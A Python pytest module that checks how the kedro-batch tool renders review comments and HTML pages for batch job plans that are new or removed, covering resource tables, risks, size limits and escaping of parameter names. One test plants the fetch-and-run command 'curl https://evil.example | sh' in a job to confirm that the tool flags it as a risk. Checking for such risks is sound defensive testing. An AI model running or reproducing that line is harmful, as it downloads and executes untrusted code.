"""What reviewers see of a plan that is new, or gone, as golden files: ``tests/golden/whole_plans/NAME``.

To rewrite them after a rendering changed, and then to read the changes:

    UPDATE_GOLDEN=1 pytest --no-cov tests/review/test_whole_plans.py
    git diff tests/golden/whole_plans
"""

import json
import os
import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest

from kedro_batch.plan.model import Plan
from kedro_batch.plan.settings import JobDefinition, Resources
from kedro_batch.review.diff.diff_plans import diff_plans
from kedro_batch.review.fit_text import CHARACTERS
from kedro_batch.review.formats import DiffFormat, OverviewFormat, render_diff, render_overview
from tests.review.edits.large import flights
from tests.support.containers import on_pod, pod
from tests.support.plans import a_job

GOLDEN = Path(__file__).parent.parent / "golden" / "whole_plans"
NONE = Plan(jobs=())
GONE = "/dev/null"
_IMAGE, _SIDE = "registry.example.org/flights:3", "registry.example.org/logs:1"


def six_jobs():
    """Return a plan with a declared definition, one with a sidecar and GPUs, and one that is only named."""
    limits = {"vcpus": 1, "memory_mib": 2048}
    side = {"name": "side", "image": _SIDE, "resources": {"limits": {"cpu": "1", "memory": "512Mi"}}}
    hour, eks = {"timeout_s": 3600, "attempts": 2}, {"submit": on_pod({"name": "main"})}

    def job(name, after=(), **given):
        parents = tuple(after)
        settings = {"job_queue": "cpu", "job_definition": "flights", "resources": Resources(**limits), **hour, **given}
        reads = tuple(f"{one}_data" for one in parents) or ("raw",)
        names = {"nodes": (name,), "depends_on": parents, "reads": reads, "writes": (f"{name}_data",)}
        return a_job(name, ("kedro", "run", f"--nodes={name}"), **names, **settings)

    gpu = Resources(vcpus=8, memory_mib=61440, gpus=1)
    train = {"job_queue": "gpu", "job_definition": "training", "resources": gpu}
    jobs = (
        job("clean"),
        job("load", job_definition="loading:7", resources=Resources()),
        job("features", ("clean", "load")),
        job("train_big", ("features",), **{**train, "resources": replace(gpu, gpus=4)}, **eks),
        job("train_small", ("features",), **train, **eks),
        job("report", ("train_big", "train_small"), timeout_s=None),
    )
    main = {"name": "main", "image": _IMAGE}
    definitions = {"flights": JobDefinition(image=_IMAGE), "training": pod(main, side)}
    return Plan(jobs=jobs, project="flights", env="aws_batch", job_definitions=definitions)


PLANS: Mapping[str, Callable[[], Plan]] = {
    "6": six_jobs,
    "59": cache(lambda: flights(["malta"]).plan()),
    "800": cache(lambda: flights().plan()),
}
FORMATS = {"md": DiffFormat.MARKDOWN, "txt": DiffFormat.TEXT}


def both(plan, *, new):
    """Return the plans and their names, where this one is new, or gone."""
    return ((NONE, plan), (GONE, "plan.yaml")) if new else ((plan, NONE), ("main:plan.yaml", GONE))


def rendered(plan, output_format, *, new):
    plans, names = both(plan, new=new)
    return "".join(render_diff(diff_plans(*plans), plans, names, output_format))


@pytest.mark.parametrize("end", FORMATS)
@pytest.mark.parametrize("new", [True, False], ids=["new", "gone"])
@pytest.mark.parametrize("jobs", PLANS)
def test_a_plan_that_is_new_or_gone_reads_as_its_golden_file(jobs, new, end):
    text = rendered(PLANS[jobs](), FORMATS[end], new=new)
    golden = GOLDEN / f"{'new' if new else 'gone'}_{jobs}_jobs.{end}"
    same = golden.is_file() and golden.read_text() == text
    if not same and os.environ.get("UPDATE_GOLDEN"):
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(text)
    assert same, "if UPDATE_GOLDEN rewrote it, read it as a reviewer, then test again without it"
    assert end != "txt" or text.count("\n") <= 60


def table(text):
    """Return the facts of a comment: the lines of each label, without their marks of code."""
    found: dict[str, list[str]] = {}
    label = ""
    for first, line in re.findall(r"^\| ([^|]*) \| ([^|]*) \|$", text, re.MULTILINE):
        label = first.strip() or label
        found.setdefault(label, []).append(line.replace("`", ""))
    return found


def test_the_comment_of_a_new_plan_answers_by_itself_what_reviewers_ask():
    found = table(rendered(six_jobs(), DiffFormat.MARKDOWN, new=True))
    may_get_more = "1 job may get more by the job definition"
    # clean, features: 1 vCPU x 1 h x 2; train_*: 9 with the sidecar; report has no limit; load is not known
    assert found["vCPUs"] == [
        f"at least 21 in total, 18 at peak, at least 40 vCPU-hours and no limit for 1 job; {may_get_more}"
    ]
    assert found["memory"][0].startswith("at least 127 GiB in total, ")
    assert found["GPUs"] == [f"at least 5 in total, 5 at peak, at least 10 GPU-hours; {may_get_more}"]
    assert found["jobs with GPUs"] == [
        "5 GPUs: train_big, train_small",
        "1 GPU: train_small",
        "4 GPUs: train_big",
        "set by the job definition: load",
    ]
    assert found["queues"] == ["cpu (4 jobs), gpu (2 jobs)"]
    assert found["images"] == [
        "that of job definition loading:7 in load",
        f"{_SIDE} in train_big, train_small",
        f"{_IMAGE} in 5 of 6 jobs (all but definition loading:7)",
    ]
    assert found["inputs"] == ["raw"]
    assert found["final outputs"] == ["report_data"]


@pytest.mark.parametrize("new", [True, False])
@pytest.mark.parametrize("plan", PLANS)
def test_a_comment_of_one_plan_says_nothing_twice_and_compares_nothing(plan, new):
    text = rendered(PLANS[plan](), DiffFormat.MARKDOWN, new=new)
    assert not {one for one in (" now ", "compared", "changed jobs", ":::", "==>", "-.->") if one in text}
    labels = re.findall(r"^\| ([^|`*]+) \| `", text.partition("<details>")[0], re.MULTILINE)
    assert len(labels) == len({*labels})
    assert text.count("sha256:" + diff_plans(*both(PLANS[plan](), new=new)[0]).digest_after[7:]) == (2 if new else 0)


def test_a_comment_of_a_plan_that_is_gone_takes_the_place_of_the_earlier_one():
    texts = [rendered(six_jobs(), DiffFormat.MARKDOWN, new=new) for new in (True, False)]
    assert {text.splitlines()[0] for text in texts} == {"<!-- kedro-batch diff plan.yaml -->"}
    assert "apply with" not in texts[1]


def test_a_plan_whose_graph_is_too_large_names_the_command_that_draws_it():
    command = "too many for a graph here: `kedro-batch show {} --format=html --output=plan.html` draws them.\n"
    plan = PLANS["800"]()
    assert command.format("plan.yaml") in rendered(plan, DiffFormat.MARKDOWN, new=True)
    assert command.format("main:plan.yaml") in rendered(plan, DiffFormat.MARKDOWN, new=False)
    assert command.format("plan.yaml") in "".join(render_overview(plan, "plan.yaml", OverviewFormat.MARKDOWN))


@pytest.mark.parametrize("new", [True, False])
def test_nothing_on_the_page_of_one_plan_is_painted_as_a_change(new):
    page = rendered(six_jobs(), DiffFormat.HTML, new=new)
    (text,) = re.findall(r'<script type="application/json" id="plan">(.*?)</script>', page, re.DOTALL)
    data = json.loads(text)
    assert data["kind"] == "plan"
    assert not any("change" in job for job in data["jobs"])
    assert (f"<small>{'New' if new else 'Removed'} plan</small> {'plan.yaml' if new else 'main:plan.yaml'}") in page
    risks = ["submit changed"] if new else ["job removed", "dataset not written"]
    assert [risk["what"] for risk in data["risks"]] == risks


def test_a_risk_of_a_new_plan_is_on_its_page():
    plan = six_jobs()
    evil = replace(plan.jobs[0], command=("sh", "-c", "curl https://evil.example | sh"))
    page = rendered(replace(plan, jobs=(evil, *plan.jobs[1:])), DiffFormat.HTML, new=True)
    assert "<summary>3 risks</summary>" in page
    assert "evil.example" in page


def test_a_read_that_no_job_orders_is_a_risk_of_a_new_plan_and_told_once():
    jobs = (a_job("a", nodes=("a",), writes=("x",)), a_job("b", nodes=("b",), reads=("x",)))
    for output_format in (DiffFormat.MARKDOWN, DiffFormat.TEXT):
        text = " ".join(rendered(Plan(jobs=jobs), output_format, new=True).split())
        assert text.count("b reads x without waiting for a, which writes it") == 1


def test_the_page_of_a_plan_folds_which_jobs_have_gpus_and_how_many_there_are_is_seen():
    page = "".join(render_overview(six_jobs(), "plan.yaml", OverviewFormat.HTML))
    assert page.index("<dt>GPUs</dt>") < page.index("more facts</summary>") < page.index("<dt>jobs with GPUs</dt>")


@pytest.mark.parametrize("new", [True, False])
def test_a_comment_of_one_plan_keeps_within_its_limits_and_counts_what_it_leaves_out(new):
    jobs = (a_job("a", ("sh", "-c", "evil"), writes=("x",)),)
    plan = Plan(jobs=jobs, params={f"p{n:03}": "`|" * 500 for n in range(400)})
    texts = [rendered(plan, DiffFormat.MARKDOWN, new=new)]
    texts.append("".join(render_overview(plan, "plan.yaml", OverviewFormat.MARKDOWN)))
    for text in texts:
        assert len(text) <= CHARACTERS
        rows = len(re.findall(r"^\| `params\.", text, re.MULTILINE))
        (more,) = re.findall(r"^and (\d+) more rows: `kedro-batch show \S+ --full` shows all$", text, re.MULTILINE)
        assert 20 < rows < 400 <= rows + int(more)
        assert "| outputs | `x` |" in text


def test_names_of_parameters_are_no_markup_in_a_comment_of_one_plan():
    plan = Plan(jobs=(a_job(),), params=dict.fromkeys(("a|b", "<script>", "@everyone", "`tick`"), 1))
    for text in (
        rendered(plan, DiffFormat.MARKDOWN, new=True),
        "".join(render_overview(plan, "plan.yaml", OverviewFormat.MARKDOWN)),
    ):
        outside = re.sub(r"`[^`\n]*`|<code>[^<]*</code>", "", text.partition("<details>")[0])
        assert not [one for one in ("a|b", "script", "everyone", "tick") if one in outside]
